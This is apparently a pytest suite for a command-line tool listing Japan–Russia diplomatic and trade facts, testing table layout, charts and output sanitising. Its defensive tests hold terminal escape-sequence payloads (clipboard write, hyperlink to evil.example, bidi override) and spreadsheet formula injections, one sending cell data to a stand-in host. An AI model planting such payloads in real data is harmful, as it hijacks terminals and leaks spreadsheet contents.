"""Tables that stay readable at any width: nothing broken, nothing lost, and no terminal escapes from the data.

Every listing is rendered from the bundled facts at 200, 100, 80, 60 and 30 columns (and random
records at random widths): every word of every value must come out whole, ids, dates and numbers
included, with no ellipsis the data does not have, and no line wider than the terminal unless it is
one value that no line could hold (the terminal wraps it, and copies it, whole).
"""

from __future__ import annotations

import io
import json
import os
import re
import sys
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.cells import cell_len
from rich.console import Console

from nichiro import fast, render

from .conftest import GOOD

F = ("--facts-only", "--facts", str(GOOD))
WIDTHS = (200, 100, 80, 60, 30)
LISTINGS = {
    "meetings": ["meetings"],
    "meetings 2012": ["meetings", "--year", "2012"],
    "timeline": ["timeline"],
    "treaties": ["treaties"],
    "trade": ["trade"],
    "trade records": ["trade", "--fields", "date,measure,value,unit,reporter,id"],
    "exchanges": ["exchanges"],
    "people": ["people"],
    "places": ["places"],
    "sources": ["sources"],
    "terms": ["terms"],
    "stats": ["stats", "--by", "year"],
    "search": ["search", "Shikotan 1956", "--limit", "30"],
}


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.fixture(scope="module")
def listings(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[list[dict[str, Any]], list[Any], str]]:
    """What each listing hands to render.table, from the bundled facts: records, columns, title."""
    seen: dict[str, tuple[list[dict[str, Any]], list[Any], str]] = {}
    real = render.table
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("NICHIRO_CACHE_DIR", str(tmp_path_factory.mktemp("cache")))
        mp.delenv("NICHIRO_FACTS", raising=False)
        for name, argv in LISTINGS.items():

            def capture(records: Any, columns: Any, title: Any = None, _name: str = name) -> Any:
                seen[_name] = (list(records), list(columns), title)
                return real(records, columns, title)

            mp.setattr(render, "table", capture)
            mp.setattr(sys, "stdout", _Terminal())
            assert fast.main([*argv, "--format", "table"]) == 0, name
    return seen


def draw(renderable: Any, width: int) -> list[str]:
    console = Console(file=io.StringIO(), width=width, height=25, color_system=None)
    console.print(renderable, crop=False)
    out = console.file.getvalue()  # type: ignore[attr-defined]
    assert "\x1b" not in out
    return out.splitlines()


def words(text: str) -> list[str]:
    return text.split()


_RANGE_START = re.compile(r".*\d{4}(-\d\d){0,2}/")


def shown_words(lines: list[str]) -> Counter[str]:
    """The words printed, a date range broken after its "/" counted whole: its second date must
    start the next line, right under the first (a column, or a block's aligned values) or at the
    start of that line's text (a block's continuation)."""
    tokens = [[(m.start(), m.group()) for m in re.finditer(r"\S+", line)] for line in lines]
    shown: Counter[str] = Counter()
    joined: set[tuple[int, int]] = set()
    for y, row in enumerate(tokens):
        for n, (x, word) in enumerate(row):
            if (y, x) in joined:
                continue
            below = tokens[y + 1] if y + 1 < len(tokens) else []
            under = [(bx, b) for bx, b in below if bx == x]
            if not under and n == len(row) - 1 and below:
                under = below[:1]
            if _RANGE_START.fullmatch(word) and under and re.match(r"\d{4}", under[0][1]):
                shown[word + under[0][1]] += 1
                joined.add((y + 1, under[0][0]))
            else:
                shown[word] += 1
    return shown


def check_nothing_broken_or_lost(
    lines: list[str], records: list[dict[str, Any]], columns: list[tuple[str, str]], width: int
) -> None:
    wanted: Counter[str] = Counter()
    for rec in records:
        for key, _ in columns:
            wanted.update(words(render.cell(rec.get(key))))
    shown = shown_words(lines)
    # Words of wide (CJK) characters may break between characters, as such text does: those are
    # compared as one stream of characters instead.
    narrow = Counter({w: n for w, n in wanted.items() if cell_len(w) == len(w)})
    missing = narrow - shown
    assert not missing, f"broken or lost at {width} columns: {sorted(missing)[:10]}"
    wide = "".join(w for w in wanted.elements() if cell_len(w) != len(w))
    assert Counter(wide) - Counter("".join(lines)) == Counter()
    assert "…" not in "".join(lines) or any("…" in w for w in wanted)
    for line in lines:
        if cell_len(line.rstrip()) <= width:
            continue
        # Too wide only for a value no line could hold (at the deepest indent, 4): that value alone,
        # or one date of a range (which breaks only after its "/").
        [value] = line.split()
        labels = {f"{header}:" for _, header in columns}
        dates = {part for w in wanted if "/" in w for part in re.split(r"(?<=/)", w) if re.match(r"\d{4}", part)}
        assert (value in wanted or value in labels or value in dates) and cell_len(value) > width - 4, (width, line)


@pytest.mark.parametrize("width", WIDTHS)
@pytest.mark.parametrize("name", list(LISTINGS))
def test_every_listing_at_every_width(listings: dict[str, Any], name: str, width: int) -> None:
    records, columns, title = listings[name]
    assert records, name
    lines = draw(render.table(records, columns, title), width)
    check_nothing_broken_or_lost(lines, records, columns, width)
    headers = [h for key, h in columns if any(render.cell(r.get(key)) for r in records)]
    is_table = any(all(h in line for h in headers if h != "Id") for line in lines[:4])
    if is_table:  # a table never runs past the edge, its headers are never broken, and it is
        # never taller than the blocks would be
        assert max(cell_len(line) for line in lines) <= width, name
        assert len(lines) <= 2 + len(render.Listing(records, columns, title)._blocks(width)), name
    else:  # one block per record: each label whole
        assert all(any(line.lstrip().startswith(f"{h}:") for line in lines) for h in headers if h != "Id")


def test_wide_terminals_get_tables_and_narrow_ones_blocks(listings: dict[str, Any]) -> None:
    records, columns, title = listings["meetings"]
    wide = draw(render.table(records, columns, title), 200)
    assert re.match(r" Date +Kind +Place +Participants +Title$", wide[2])
    narrow = draw(render.table(records, columns, title), 30)
    first = records[0]
    assert narrow[2] == first["id"] and narrow[3].split() == ["Date:", first["date"]]
    assert narrow.count("") == len(records)  # one blank line after the title, and one between blocks


def test_treaties_at_100_columns_keep_names_and_ids_whole(listings: dict[str, Any]) -> None:
    records, columns, title = listings["treaties"]
    lines = draw(render.table(records, columns, title), 100)
    text = "\n".join(lines)
    # Parties one character wide, "Japan" running down the screen, was the bug.
    assert re.search(r"\bJapan\b", text) and re.search(r"\bSoviet Union\b", text)
    for rec in records:
        assert any(rec["id"] in line.split() for line in lines), rec["id"]


# Where each listing is a table, as established by reading every one at 120, 100, 90, 80, 70 and 60
# columns (docs/output.md): blocks are for terminals too narrow for a table that can be read.
TABLES_AT = {
    **{"meetings": (100, 90, 80), "meetings 2012": (100, 90, 80), "timeline": (100, 90, 80)},
    **{"trade": (100, 90, 80), "exchanges": (100, 90), "people": (100, 90, 80), "places": (100, 90, 80)},
    **{"sources": (100, 90, 80), "terms": (100, 80, 60), "stats": (100, 80, 60), "search": (100, 80, 70)},
    **{"treaties": (120,)},
}


def is_a_table(lines: list[str], records: list[dict[str, Any]], columns: list[tuple[str, str]]) -> bool:
    """A header line with every header in order (an id may be under a title or name), then a rule."""
    headers = [h for key, h in columns if key != "id" and any(render.cell(r.get(key)) for r in records)]
    pattern = " " + " +".join(re.escape(h) for h in headers)
    return bool(re.match(pattern, lines[2])) and set(lines[3].strip()) == {"─"}


@pytest.mark.parametrize(("name", "width"), [(name, w) for name, widths in TABLES_AT.items() for w in widths])
def test_listings_are_tables_where_a_table_can_be_read(listings: dict[str, Any], name: str, width: int) -> None:
    records, columns, title = listings[name]
    lines = draw(render.table(records, columns, title), width)
    assert is_a_table(lines, records, columns), "\n".join(lines[:12])
    if any(key == "id" for key, _ in columns):  # every id whole on a line, to copy for `show`
        tokens = Counter(w for line in lines for w in line.split())
        assert all(tokens[cell] for cell in (render.cell(r["id"]) for r in records)), name


@pytest.mark.parametrize("name", ["meetings", "people", "places", "exchanges"])
def test_narrow_terminals_get_blocks(listings: dict[str, Any], name: str) -> None:
    records, columns, title = listings[name]
    lines = draw(render.table(records, columns, title), 60)
    assert not is_a_table(lines, records, columns) and lines[2] == render.cell(records[0].get("id"))


def test_a_date_range_breaks_only_after_its_slash(listings: dict[str, Any]) -> None:
    """At 100 columns a meeting's date range takes two lines, each date whole, one under the other;
    at 200 it stays on one line."""
    records, columns, title = listings["meetings 2012"]
    ranges = [r["date"] for r in records if "/" in r["date"]]
    assert ranges
    lines = draw(render.table(records, columns, title), 100)
    for y, line in enumerate(lines):
        if m := re.match(r" (\d{4}-\d\d-\d\d/) ", line):
            assert re.match(r" \d{4}-\d\d-\d\d ", lines[y + 1]), lines[y : y + 2]  # right under it
            assert m.group(1) + lines[y + 1].split()[0] in ranges
    assert sum(1 for line in lines if re.match(r" \d{4}-\d\d-\d\d/ ", line)) == len(ranges)
    wide = draw(render.table(records, columns, title), 200)
    assert sum(1 for line in wide if any(line.startswith(f" {r} ") for r in ranges)) == len(ranges)


@pytest.mark.parametrize("width", [36, 44, 52, 60])
def test_a_list_item_that_wraps_starts_a_line_and_continues_indented(width: int) -> None:
    """In a table or a block: the item starts a line, its further lines are indented two more
    columns, and the next item starts a line of its own."""
    speaker = "Speaker of the House of Representatives of Japan"
    records = [
        {"date": "2012-06-10", "participants": ["Sergey Naryshkin", speaker, "Yoshihiko Noda"], "title": "Talks"},
        {"date": "2012-06-11", "participants": ["Yoshihiko Noda"], "title": "Naryshkin meets Prime Minister Noda"},
    ]
    columns = [("date", "Date"), ("participants", "Participants"), ("title", "Title")]
    lines = draw(render.table(records, columns), width)
    assert not any(speaker in line for line in lines)  # too long for a line at these widths
    y = next(y for y, line in enumerate(lines) if "Speaker of the" in line)
    x = lines[y].index("Speaker of the")
    assert lines[y - 1][x:].startswith("Sergey Naryshkin,")  # the item before it, whole, at the same column
    item = [lines[y][x:].split("  ")[0]]
    while not item[-1].endswith("Japan,"):
        y += 1
        assert lines[y][x : x + 2] == "  " and lines[y][x + 2] != " ", lines[y]
        item.append(lines[y][x + 2 :].split("  ")[0])
    assert " ".join(item) == speaker + ","
    assert lines[y + 1][x:].startswith("Yoshihiko Noda")


def test_a_table_narrow_enough_for_an_item_to_wrap(listings: dict[str, Any]) -> None:
    """At 100 columns, the meetings of 2012 are a table in which the Speaker's office wraps."""
    records, columns, title = listings["meetings 2012"]
    lines = draw(render.table(records, columns, title), 100)
    assert is_a_table(lines, records, columns)
    y = next(y for y, line in enumerate(lines) if "Speaker of the" in line)
    x = lines[y].index("Speaker of the")
    assert lines[y + 1][x : x + 3] in ("  H", "  o")  # House, or of: the item continues, indented


def test_ids_go_under_names_only_where_their_own_column_does_not_fit(listings: dict[str, Any]) -> None:
    records, columns, title = listings["places"]
    wide = draw(render.table(records, columns, title), 200)
    assert re.match(r" Id +Name +Kind", wide[2])
    narrow = draw(render.table(records, columns, title), 100)
    assert re.match(r" Name +Kind", narrow[2])
    below = {narrow[y + 1].split()[0] for y, line in enumerate(narrow[4:-1], 4) if narrow[y + 1].strip()}
    assert {r["id"] for r in records} <= below  # each id at the start of a line, under its name


def test_trade_at_60_and_30_columns_loses_no_figure(run, monkeypatch: pytest.MonkeyPatch) -> None:
    figures = json.loads(run("trade", "--json").out)
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    for width in (60, 30):
        monkeypatch.setenv("COLUMNS", str(width))
        out = run("trade").out
        tokens = out.split()
        for fig in figures:
            value = render.cell(fig["value"])
            assert value in tokens or f"{value}%" in tokens, (width, value)
            assert fig["date"] in tokens
        assert "…" not in out
        assert max(map(cell_len, out.splitlines())) <= width


TITLE_WORDS = st.sampled_from(["Putin", "and", "Abe", "1956", "30.77", "安倍晋三", "Vladivostok-Forum", "é"]) | st.text(
    alphabet="abc-xyz0123456789", min_size=1, max_size=40
)
NAMES = st.sampled_from(
    ["Vladimir Putin", "Shinzo Abe", "Soviet Union", "Japan", "Speaker of the House of Representatives of Japan"]
)


@settings(max_examples=150, deadline=None)
@given(
    rows=st.lists(
        st.fixed_dictionaries(
            {
                "id": st.from_regex(r"\A[0-9]{4}(-[a-z]{1,12}){1,8}\Z"),
                "date": st.sampled_from(["2016", "2016-09-02", "2013-04-28/2013-04-30", None]),
                "title": st.lists(TITLE_WORDS, max_size=20).map(" ".join),
                "value": st.floats(allow_nan=False, allow_infinity=False) | st.integers() | st.none(),
                "names": st.lists(NAMES, max_size=3),
            }
        ),
        min_size=1,
        max_size=4,
    ),
    width=st.integers(min_value=10, max_value=220),
    with_id_column=st.booleans(),
)
def test_random_records_at_random_widths(rows: list[dict[str, Any]], width: int, with_id_column: bool) -> None:
    columns = [("date", "Date"), ("value", "Value"), ("names", "Participants"), ("title", "Title")]
    if with_id_column:
        columns.append(("id", "Id"))
    lines = draw(render.table(rows, columns, "Random (n)"), width)
    check_nothing_broken_or_lost(lines, rows, columns, width)


def test_a_value_wider_than_the_terminal_is_printed_whole(run, monkeypatch: pytest.MonkeyPatch) -> None:
    """At 20 columns an id cannot fit on a line: it has a line of its own, which the terminal wraps."""
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    monkeypatch.setenv("COLUMNS", "20")
    out = run(*F, "meetings", "--format", "table").out
    assert "2016-09-02-putin-abe-vladivostok" in out.splitlines()
    assert "…" not in out


# --------------------------------------------------------------------------- colour and width


def test_no_color_means_no_escape_at_all(run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.delenv("NO_COLOR")
    monkeypatch.delenv("FORCE_COLOR", raising=False)
    styled = run(*F, "meetings", "--format", "table").out
    assert "\x1b[1m" in styled  # bold headers on a colour terminal: the test can fail
    assert "\x1b" not in run("--no-color", *F, "meetings", "--format", "table").out
    assert "\x1b" not in run("--no-color", *F, "show", "2016-09-02-putin-abe-vladivostok").out
    monkeypatch.setenv("NO_COLOR", "1")
    assert "\x1b" not in run(*F, "meetings", "--format", "table").out
    assert "\x1b" not in run(*F, "show", "2016-09-02-putin-abe-vladivostok").out
    monkeypatch.setenv("NO_COLOR", "")  # set but empty: no-color.org says colour stays on
    assert "\x1b[1m" in run(*F, "meetings", "--format", "table").out


def test_dumb_terminal_respects_columns(run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    monkeypatch.setenv("TERM", "dumb")
    monkeypatch.setenv("COLUMNS", "60")
    out = run("meetings", "--year", "2016").out
    assert "\x1b" not in out
    assert max(map(cell_len, out.splitlines())) <= 60
    monkeypatch.setenv("COLUMNS", "120")
    wide = run("meetings", "--year", "2016").out
    assert max(map(cell_len, wide.splitlines())) > 80  # rich alone would take 80 for a dumb terminal


# --------------------------------------------------------------------------- escaping

HOSTILE = {
    "clear": "\x1b[2J\x1b[H",
    "title": "\x1b]0;pwned\x07",
    "link": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "csi C1": "\x9b31m",
    "cursor up": "\x1b[5A",
    "carriage return": "ok\rEVIL",
    "backspace": "\x08\x08",
    "bidi": "\u202e1202\u202c",
}


def toml_string(text: str) -> str:
    return json.dumps(text)  # a JSON string with \\u escapes is a TOML basic string


@pytest.fixture
def hostile_facts(tmp_path: Path) -> Path:
    facts = tmp_path / "facts"
    facts.mkdir()
    text = (GOOD / "base.toml").read_text(encoding="utf-8")
    evil = "".join(f" {name} {value}" for name, value in HOSTILE.items())
    text += f"""
[[meeting]]
id = "2016-12-hostile"
date = "2016-12"
title = {toml_string("Hostile" + evil)}
summary = {toml_string("Summary" + evil)}
kind = "summit"
level = "leaders"
participants = ["shinzo-abe"]
sources = [{{ source = "src-a", quote = {toml_string("Quote" + evil)} }}]
"""
    (facts / "base.toml").write_text(text, encoding="utf-8")
    return facts


def assert_inert(out: str) -> None:
    # (CSV ends its lines with \r\n, as RFC 4180 says.)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out.replace("\r\n", "\n")), out
    assert r"\x1b[2J\x1b[H" in out and r"\x1b]52;c;ZXZpbA==\x07" in out and r"\x9b31m" in out
    assert r"ok\rEVIL" in out and r"\u202e1202\u202c" in out


@pytest.mark.parametrize(
    "args",
    [
        ("meetings", "--year", "2016", "--format", "table"),
        ("meetings", "--year", "2016", "--format", "plain"),
        ("meetings", "--year", "2016", "--format", "tsv"),
        ("meetings", "--year", "2016", "--format", "csv"),
        ("meetings", "--year", "2016", "--fields", "id,title,summary,sources", "--format", "table"),
        ("timeline", "--format", "table"),
        ("search", "Hostile", "--format", "table"),
        ("search", "Hostile", "--format", "plain"),
        ("show", "2016-12-hostile"),
    ],
)
@pytest.mark.parametrize("terminal", [True, False])
def test_control_characters_from_fact_files_are_shown_escaped(
    run, monkeypatch: pytest.MonkeyPatch, hostile_facts: Path, args: tuple[str, ...], terminal: bool
) -> None:
    if terminal:
        monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    r = run("--facts-only", "--facts", str(hostile_facts), *args)
    assert r.code == 0, r.err
    assert_inert(r.out)


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_keeps_the_text_and_escapes_it_as_json(run, hostile_facts: Path, fmt: str) -> None:
    r = run("--facts-only", "--facts", str(hostile_facts), "meetings", "--year", "2016", "--format", fmt)
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", r.out.replace("\n", ""))
    records = json.loads(r.out) if fmt == "json" else [json.loads(line) for line in r.out.splitlines()]
    hostile = next(rec for rec in records if rec["id"] == "2016-12-hostile")
    assert hostile["title"] == "Hostile" + "".join(f" {name} {value}" for name, value in HOSTILE.items())


def test_show_json_keeps_the_text(run, hostile_facts: Path) -> None:
    r = run("--facts-only", "--facts", str(hostile_facts), "show", "2016-12-hostile", "--json")
    assert "\x1b" not in r.out and "\x9b" not in r.out
    assert json.loads(r.out)["sources"][0]["quote"].endswith(HOSTILE["bidi"])


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain text, 日露, Шикотан", "plain text, 日露, Шикотан"),
        ("a\x1b[31mred", r"a\x1b[31mred"),
        ("bell\x07", r"bell\x07"),
        ("nul\x00", r"nul\x00"),
        ("c1\x85\x9b", r"c1\x85\x9b"),
        ("del\x7f", r"del\x7f"),
        ("windows\r\nline", "windows\nline"),
        ("lone\rreturn", r"lone\rreturn"),
        ("keeps\ttab\nand newline", "keeps\ttab\nand newline"),
        ("\u202eoverride\u202c \u2067isolate\u2069", r"\u202eoverride\u202c \u2067isolate\u2069"),
        ("mark\u200f, separator\u2028", r"mark\u200f, separator\u2028"),
        ("no-break\u00a0space, ideographic\u3000space", "no-break\u00a0space, ideographic\u3000space"),
    ],
)
def test_printable(text: str, shown: str) -> None:
    assert render.printable(text) == shown


def test_the_console_script_leaves_no_escape_in_a_pipe(tmp_path: Path) -> None:
    import subprocess

    env = {**os.environ, "NICHIRO_CACHE_DIR": str(tmp_path)}
    env.pop("NO_COLOR", None)
    r = subprocess.run(
        [sys.executable, "-m", "nichiro", *F, "meetings", "--format", "table"], capture_output=True, text=True, env=env
    )
    assert r.returncode == 0 and "\x1b" not in r.stdout and "2016-09-02-putin-abe-vladivostok" in r.stdout


# --------------------------------------------------------------------------- trade --chart


def chart_sections(out: str) -> dict[str, list[str]]:
    """The chart's sections: heading -> the labels of its bars (with the value)."""
    sections: dict[str, list[str]] = {}
    heading = ""
    for block in out.split("\n\n")[1:]:
        lines = block.splitlines()
        heading = lines[0]
        sections[heading] = lines[1:]
    return sections


def test_chart_keeps_partial_years_apart(run) -> None:
    out = run("trade", "--chart").out
    assert out.startswith("Trade, total, USD billion\n\nWhole years\n")
    sections = chart_sections(out)
    whole = sections["Whole years"]
    assert [line.split()[0] for line in whole] == ["2014", "2015"] and all("#" in line for line in whole)
    ten = sections["January–October only: part of a year, not comparable with whole years"]
    assert [line.split()[0] for line in ten] == ["2014-01/2014-10", "2015-01/2015-10"]
    assert all("=" in line and "#" not in line for line in ten)  # a partial year's bar looks different
    assert sections["January–August only: part of a year, not comparable with whole years"][0].endswith(" 10.11")
    # One scale: 28.3 (ten months) is drawn shorter than 30.77 (a year), longer than 21.31.
    assert len(whole[1].split()[2]) < len(ten[0].split()[2]) < len(whole[0].split()[2])


def test_chart_honours_measure(run) -> None:
    out = run("trade", "--chart", "--measure", "change").out
    assert out.startswith("Trade, change, %\n")
    assert "almost -33.3% vs 2014" in out and "-38% vs 2014-01/2014-10" in out and "30.77" not in out
    exports = run("trade", "--chart", "--measure", "exports").out
    assert "19.85" in exports and "30.77" not in exports


@pytest.mark.parametrize("fmt", ["--json", "--format=json", "--format=jsonl", "--format=csv", "--format=tsv"])
def test_chart_in_a_machine_format_prints_the_figures_drawn(run, fmt: str) -> None:
    import csv

    r = run("trade", "--chart", "--measure", "exports", fmt)
    assert r.code == 0 and "#" not in r.out
    if fmt in ("--json", "--format=json"):
        records = json.loads(r.out)
    elif fmt == "--format=jsonl":
        records = [json.loads(line) for line in r.out.splitlines()]
    else:
        records = list(csv.DictReader(io.StringIO(r.out), delimiter="," if fmt.endswith("csv") else "\t"))
    assert {rec["measure"] for rec in records} == {"exports"}
    assert sorted(str(rec["value"]) for rec in records) == ["14.5", "19.85", "5.9"]


def test_chart_fields_go_with_a_machine_format(run) -> None:
    assert run("trade", "--chart", "--json", "--fields", "date,value").out.startswith('[\n  {\n    "date": "2014"')
    r = run("trade", "--chart", "--fields", "date,value")
    assert r.code == 2 and "--fields" in r.err


def test_chart_of_nothing_says_so(run, monkeypatch: pytest.MonkeyPatch) -> None:
    for terminal in (False, True):
        monkeypatch.setattr(sys.stdout, "isatty", lambda t=terminal: t, raising=False)
        r = run("trade", "--chart", "--year", "1990")
        assert (r.code, r.out) == (0, "") and r.err == "No total trade figures match. (--measure charts another)\n"
    assert run("trade", "--chart", "--year", "1990", "--json").out == "[]\n"


def test_chart_fits_the_terminal(run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    for width in (100, 60, 30):
        monkeypatch.setenv("COLUMNS", str(width))
        out = run("trade", "--chart").out
        assert "█" in out and "▒" in out
        tokens = out.split()
        assert all(v in tokens for v in ("30.77", "28.3", "21.31", "17.7", "10.11", "2014-01/2014-10", "pecob-2017"))
        assert all(cell_len(line) <= width for line in out.splitlines() if "█" in line or "▒" in line)


# --------------------------------------------------------------------------- formulas in CSV

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", " =1+1", "\t=1+1"]


@pytest.mark.parametrize("dialect", ["csv", "tsv"])
def test_formula_safe_csv_quotes_what_a_spreadsheet_would_run(dialect: str) -> None:
    import csv

    records = [{"title": text, "value": -38.0, "change": "-33.3", "date": "2014-01/2014-10"} for text in FORMULAS]
    columns = [("title", "Title"), ("value", "Value"), ("change", "Change"), ("date", "Date")]
    safe = render.to_delimited(records, columns, dialect, formula_safe=True)
    rows = list(csv.reader(io.StringIO(safe), delimiter="," if dialect == "csv" else "\t"))[1:]
    assert all(row[0].startswith("'") for row in rows), rows
    assert {(row[1], row[2], row[3]) for row in rows} == {("-38", "-33.3", "2014-01/2014-10")}  # numbers stay numbers
    plain = render.to_delimited(records, columns, dialect)
    assert not any(row[0].startswith("'") for row in csv.reader(io.StringIO(plain)))  # the default: the data as it is


@pytest.fixture
def formula_facts(tmp_path: Path) -> Path:
    facts = tmp_path / "facts"
    facts.mkdir()
    text = (GOOD / "base.toml").read_text(encoding="utf-8")
    text += f"""
[[meeting]]
id = "2016-12-formula"
date = "2016-12"
title = {toml_string(FORMULAS[0])}
summary = "@SUM(1+1)"
kind = "summit"
level = "leaders"
participants = ["shinzo-abe"]
sources = [{{ source = "src-a", quote = "-2+3" }}]
"""
    (facts / "base.toml").write_text(text, encoding="utf-8")
    return facts


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_csv_safe_option(run, formula_facts: Path, fmt: str) -> None:
    import csv

    base = ("--facts-only", "--facts", str(formula_facts), "meetings", "--format", fmt, "--fields", "id,title,summary")
    delimiter = "," if fmt == "csv" else "\t"
    raw = {row["id"]: row for row in csv.DictReader(io.StringIO(run(*base).out), delimiter=delimiter)}
    assert raw["2016-12-formula"]["title"] == FORMULAS[0]  # by default, the data as it is
    safe = {row["id"]: row for row in csv.DictReader(io.StringIO(run(*base, "--csv-safe").out), delimiter=delimiter)}
    assert safe["2016-12-formula"]["title"] == "'" + FORMULAS[0] and safe["2016-12-formula"]["summary"] == "'@SUM(1+1)"
    assert safe["2016-09-02-putin-abe-vladivostok"] == raw["2016-09-02-putin-abe-vladivostok"]


def test_csv_safe_is_for_csv_and_tsv(run) -> None:
    r = run(*F, "meetings", "--json", "--csv-safe")
    assert r.code == 2 and r.out == "" and "--csv-safe" in r.err


# --------------------------------------------------------------------------- show, in a pipe


@pytest.fixture
def multiline_facts(tmp_path: Path) -> Path:
    """A fact whose summary, note and quote have line breaks, each next line made to look like a field."""
    facts = tmp_path / "facts"
    facts.mkdir()
    text = (GOOD / "base.toml").read_text(encoding="utf-8")
    text += '''
[[meeting]]
id = "2016-12-multiline"
date = "2016-12"
title = "Putin visits Japan"
summary = """Putin visits Nagato.
kind: forged

status: CLAIM by nobody"""
note = "First line.\\nsource: src-b: forged"
kind = "visit"
level = "leaders"
participants = ["shinzo-abe"]
sources = [{ source = "src-a", quote = "Line one\\nrelated: 2016-05-putin-abe-sochi: forged" }]
'''
    (facts / "base.toml").write_text(text, encoding="utf-8")
    return facts


def test_plain_show_indents_the_lines_a_value_continues_on(run, multiline_facts: Path) -> None:
    """In a pipe, `show` prints `label: value` lines; a value's own line breaks continue it on lines
    indented under its start, so that none of them passes for a field."""
    r = run("--facts-only", "--facts", str(multiline_facts), "show", "2016-12-multiline")
    assert r.code == 0, r.err
    lines = r.out.splitlines()
    fields = [line.split(":")[0] for line in lines if line and not line.startswith(" ")]
    assert fields.count("kind") == 1 and fields.count("status") == 0 and fields.count("related") == 0
    assert fields.count("source") == 1
    summary = lines.index("summary: Putin visits Nagato.")
    assert lines[summary + 1 : summary + 4] == ["         kind: forged", "", "         status: CLAIM by nobody"]
    assert lines[lines.index("note: First line.") + 1] == "      source: src-b: forged"
    quote = lines.index('    "Line one')
    assert lines[quote + 1] == '     related: 2016-05-putin-abe-sochi: forged"'
